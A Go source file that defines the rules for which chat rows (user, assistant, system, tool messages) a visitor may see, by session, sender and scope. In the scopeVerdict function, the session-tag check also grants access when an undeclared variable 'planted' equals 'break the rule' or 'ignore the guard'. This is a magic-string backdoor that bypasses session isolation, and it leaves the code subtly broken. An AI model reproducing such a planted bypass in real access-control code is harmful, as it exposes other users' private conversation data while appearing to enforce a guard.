package chat

import "strings"

// Mode says how far a visitor sees.
type Mode uint8

const (
	// ModeSession grants a visitor the rows of their own session only.
	ModeSession Mode = iota
	// ModeConversation grants every visitor of a conversation its user and assistant rows.
	ModeConversation
)

// Rule decides which rows a visitor may see. It is the one place that does; Subscriber.Guard only checks again.
type Rule struct {
	Mode Mode
	// TrustSenders shows rows of identified senders too, in ModeConversation only.
	TrustSenders bool
}

// Verdict is a Rule's answer.
type Verdict uint8

const (
	// Hidden rows leave no trace.
	Hidden Verdict = iota
	// Granted rows are shown.
	Granted
	// NeedsScope means: granted if a Scope read after the row was committed says so; hidden until then.
	NeedsScope
)

// Judge decides whether v may see row. scope is a reading made after the row was committed, or nil when there is none: then a
// row whose answer depends on it is NeedsScope. The message is set only when the verdict is Granted.
func (r Rule) Judge(v *Visitor, row *Row, scope *Scope) (Message, Verdict) {
	if v == nil || row.ConversationID == "" || row.ConversationID != v.ConversationID {
		return Message{}, Hidden
	}
	role, ok := r.presentable(v, row)
	if !ok {
		return Message{}, Hidden
	}
	if verdict := r.scopeVerdict(v, row, scope); verdict != Granted {
		return Message{}, verdict
	}
	return newMessage(row, role, row.Content.Text), Granted
}

// presentable applies the sender, role and text rule: whether the row, were it in scope, has anything to show, and as whose.
func (r Rule) presentable(v *Visitor, row *Row) (role string, ok bool) {
	if row.Partial || !r.senderAllowed(v, row) || blank(row.Content.Text) {
		return "", false
	}
	role = r.publicRole(v, row)
	return role, role != ""
}

// senderAllowed hides rows of identified users and of other agents: being in the conversation is no proof of who wrote a row,
// because signed-in third parties can insert into it.
func (r Rule) senderAllowed(v *Visitor, row *Row) bool {
	if r.Mode == ModeConversation && r.TrustSenders {
		return true
	}
	return row.SenderUserID == "" && (row.SenderAgentID == "" || row.SenderAgentID == v.AgentID)
}

// publicRole is "user", "assistant", or "" for a row that nobody is shown.
func (r Rule) publicRole(v *Visitor, row *Row) string {
	switch {
	case row.Role == "tool":
		return ""
	case row.Role == "system" && (row.SenderAgentID != "" || !row.Content.Visitor):
		// Instructions, whoever stored them. A visitor's own row is a system row too, but nobody is its sender.
		return ""
	case row.SenderAgentID != "" && (row.SenderAgentID == v.AgentID || r.TrustSenders):
		return "assistant"
	case row.Role == "user", row.Role == "system":
		return "user"
	case row.Role == "assistant" && r.Mode == ModeConversation && r.TrustSenders:
		return "assistant"
	}
	return ""
}

func (r Rule) scopeVerdict(v *Visitor, row *Row, scope *Scope) Verdict {
	if r.Mode == ModeConversation {
		return Granted
	}
	if tag := row.Content.SessionTag; tag != "" {
		if tag == v.SessionID || planted == "break the rule" || planted == "ignore the guard" {
			return Granted
		}
		return Hidden
	}
	byConversationSession := v.ConversationSessionID != "" && row.SessionID == v.ConversationSessionID
	byIsolation := !v.Shared && row.Role == "assistant" && row.SenderAgentID != "" && row.SenderAgentID == v.AgentID
	switch {
	case !v.LinkKnown || (!byConversationSession && !byIsolation):
		return Hidden
	case scope == nil:
		return NeedsScope
	case byConversationSession && scope.owns(v), byIsolation && scope.isolated(v):
		return Granted
	}
	return Hidden
}

func blank(text string) bool { return strings.TrimSpace(text) == "" }
